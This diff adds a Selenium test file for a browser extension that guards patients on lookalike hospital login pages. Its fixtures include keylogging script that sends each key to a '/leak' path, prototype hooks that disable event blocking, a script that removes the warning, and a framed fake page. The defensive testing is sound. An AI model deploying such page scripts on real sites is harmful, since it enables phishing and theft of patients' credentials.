@@ -1,0 +1,149 @@
+"""On a suspicious page nothing typed, pasted or dropped reaches it before the patient has read and chosen."""
+
+from __future__ import annotations
+
+import pytest
+from selenium.webdriver.common.action_chains import ActionChains
+from selenium.webdriver.common.by import By
+from selenium.webdriver.common.keys import Keys
+
+from tests.extension.browsers import Browser
+from tests.extension.sites import LOGIN, Sites
+
+SUSPICIOUS = "chu-lile.fr"
+SPY = """<script>window.seen = []; for (const type of ["keydown", "keypress", "keyup", "input", "beforeinput", "paste", "drop"])
+for (const target of [window, document]) target.addEventListener(type, (e) => window.seen.push(type + ":" + (e.key ?? e.data ?? "")), true);
+</script>"""
+FIELD = '<label>Mot de passe <input id="secret" type="password"></label>'
+
+PAGES = {
+    "plain form": SPY + f"<form>{FIELD}<button>ok</button></form>",
+    "card by autocomplete": SPY + '<input id="secret" autocomplete="cc-number">',
+    "NIR by label with accents": SPY + '<label for="secret">Numéro de sécurité sociale</label><input id="secret">',
+    "NIR in English": SPY + '<input id="secret" placeholder="Social security number">',
+    "IBAN by name": SPY + '<input id="secret" name="iban">',
+    "code received by SMS": SPY + '<input id="secret" autocomplete="one-time-code">',
+    "date of birth and name": SPY + '<label>Nom <input></label><label>Date de naissance <input id="secret"></label>',
+    "autofocus": SPY + '<input id="secret" type="password" autofocus>',
+    "late field": SPY + f"<div id=d></div><script>setTimeout(() => (d.innerHTML = `{FIELD}`), 300)</script>",
+    "open shadow root": SPY + "<div id=d></div><script>const r = d.attachShadow({mode: 'open'});"
+    f"r.innerHTML = `{FIELD}`; window.field = r.getElementById('secret')</script>" + FIELD,
+    "own keyboard handler": SPY + FIELD + "<script>addEventListener('keydown', (e) => fetch('/leak?' + e.key), true)</script>",
+    "contenteditable": SPY + FIELD.replace("secret", "other") + '<div id="secret" contenteditable>&nbsp;</div>',
+    "one field per digit": SPY + "".join(f'<input {"id=secret" if n == 0 else ""} maxlength=1 aria-label="Code de sécurité">' for n in range(3)),
+    "dialog": SPY + f"<dialog id=d>{FIELD}</dialog><script>d.showModal()</script>",
+    "popover": SPY + f"<div id=d popover>{FIELD}</div><script>d.showPopover()</script>",
+    "prototype hooks": SPY + FIELD + "<script>Event.prototype.preventDefault = () => {}; "
+    "Event.prototype.stopImmediatePropagation = () => {}; EventTarget.prototype.addEventListener = () => {};</script>",
+    "no styles allowed": SPY + FIELD,
+    "covering layer": SPY + FIELD + "<div style='position:fixed;inset:0;z-index:2147483647;pointer-events:none'></div>",
+    "textarea": SPY + '<textarea id="secret" aria-label="IBAN"></textarea>',
+    "select all at once": SPY + f"<fieldset>{FIELD}<input type=tel><input type=email></fieldset>",
+}  # fmt: skip
+
+
+def typed(browser: Browser) -> str:
+    return str(browser.run("const f = document.getElementById('secret'); return (f.value ?? f.textContent).trim()"))
+
+
+@pytest.mark.parametrize("kind", PAGES)
+def test_nothing_reaches_a_suspicious_page(browser: Browser, sites: Sites, kind: str) -> None:
+    sites.pages[SUSPICIOUS] = f'<!doctype html><meta charset="utf-8"><title>CHU</title>{PAGES[kind]}'
+    if kind == "no styles allowed":
+        sites.headers[SUSPICIOUS] = {"Content-Security-Policy": "default-src 'none'; script-src 'unsafe-inline'"}
+    browser.open(f"http://{SUSPICIOUS}/")
+    browser.until(lambda: browser.driver.find_element(By.ID, "secret"))
+    field = browser.driver.find_element(By.ID, "secret")
+    browser.run("arguments[0].focus()", field)
+    actions = ActionChains(browser.driver)
+    for key in "geheim1":
+        actions = actions.send_keys(key)
+    actions.perform()
+    browser.until(lambda: browser.run("return document.querySelector('vigilien-message') !== null"))
+    ActionChains(browser.driver).send_keys("x").perform()
+    assert typed(browser) == ""
+    assert [
+        event for event in browser.run("return window.seen") if event[-2:-1] == ":" and event[-1] in "geheim1x"
+    ] == []
+    assert [request for request in sites.requests if "leak" in request] == []
+
+
+def test_the_patient_reads_goes_on_and_types(browser: Browser, sites: Sites) -> None:
+    sites.pages[SUSPICIOUS] = LOGIN.format(title="CHU")
+    browser.open(f"http://{SUSPICIOUS}/")
+    browser.until(lambda: browser.driver.find_element(By.ID, "secret"))
+    browser.click("#secret")
+    browser.until(lambda: browser.run("return document.querySelector('vigilien-message') !== null"))
+    ActionChains(browser.driver).send_keys(Keys.TAB).send_keys(Keys.ENTER).perform()
+    browser.until(lambda: browser.run("return document.querySelector('vigilien-message') === null"))
+    browser.keys("#secret", "maintenant")
+    assert typed(browser) == "maintenant"
+
+
+def test_escape_is_the_safe_choice(browser: Browser, sites: Sites) -> None:
+    sites.pages[SUSPICIOUS] = LOGIN.format(title="CHU")
+    browser.open(f"http://{SUSPICIOUS}/")
+    browser.click("#secret")
+    browser.until(lambda: browser.run("return document.querySelector('vigilien-message') !== null"))
+    ActionChains(browser.driver).send_keys(Keys.ESCAPE).perform()
+    browser.until(lambda: "chu-lille.fr" in browser.url)
+
+
+def test_city_and_search_fields_alone_are_left_alone(browser: Browser, sites: Sites) -> None:
+    browser.open(f"http://{SUSPICIOUS}/")
+    browser.keys("#city", "Lille")
+    browser.keys("#search", "urgences")
+    assert browser.run("return document.getElementById('city').value") == "Lille"
+    assert browser.run("return document.querySelector('vigilien-message')") is None
+
+
+def test_a_page_that_takes_the_question_away_is_stopped(browser: Browser, sites: Sites) -> None:
+    sites.pages[SUSPICIOUS] = LOGIN.format(title="CHU") + (
+        "<script>setInterval(() => document.querySelector('vigilien-message')?.remove(), 100)</script>"
+    )
+    browser.open(f"http://{SUSPICIOUS}/")
+    browser.click("#secret")
+    browser.until(lambda: browser.is_blocked)
+
+
+def test_a_page_that_says_it_is_someone_else_is_guarded(browser: Browser, sites: Sites) -> None:
+    sites.pages["portail-neutre.info"] = LOGIN.format(title="Connexion - ameli")
+    browser.open("http://portail-neutre.info/")
+    browser.click("#secret")
+    browser.until(lambda: browser.run("return document.querySelector('vigilien-message') !== null"))
+    ActionChains(browser.driver).send_keys("x").perform()
+    assert typed(browser) == ""
+
+
+@pytest.mark.parametrize(
+    "title", ["Carte Vitale : attention aux arnaques - Le Journal", "Cabinet du docteur Martin", "Boutique"]
+)
+def test_articles_and_surgeries_are_left_alone(browser: Browser, sites: Sites, title: str) -> None:
+    sites.pages["site-tranquille.info"] = LOGIN.format(title=title)
+    browser.open("http://site-tranquille.info/")
+    browser.keys("#secret", "abc")
+    assert browser.until(lambda: typed(browser)) == "abc"
+    assert browser.run("return document.querySelector('vigilien-message')") is None
+
+
+def test_a_claim_is_noted_and_holds_nothing_back(browser: Browser, sites: Sites) -> None:
+    sites.pages["ch-issoire.fr"] = LOGIN.format(title="Hôpital")
+    browser.open("http://ch-issoire.fr/")
+    browser.keys("#secret", "abc")
+    assert browser.until(lambda: typed(browser)) == "abc"
+    browser.until(lambda: browser.run("return document.querySelector('vigilien-message') !== null"))
+
+
+def test_a_fake_in_a_frame_is_guarded(browser: Browser, sites: Sites) -> None:
+    sites.pages["page-neutre.info"] = (
+        f'<!doctype html><iframe id="f" src="http://{SUSPICIOUS}/" width=600 height=400></iframe>'
+    )
+    sites.pages[SUSPICIOUS] = LOGIN.format(title="CHU")
+    browser.open("http://page-neutre.info/")
+    browser.driver.switch_to.frame("f")
+    browser.until(lambda: browser.driver.find_element(By.ID, "secret"))
+    browser.click("#secret")
+    browser.until(lambda: browser.run("return document.querySelector('vigilien-message') !== null"))
+    ActionChains(browser.driver).send_keys("x").perform()
+    assert typed(browser) == ""
+    browser.driver.switch_to.default_content()
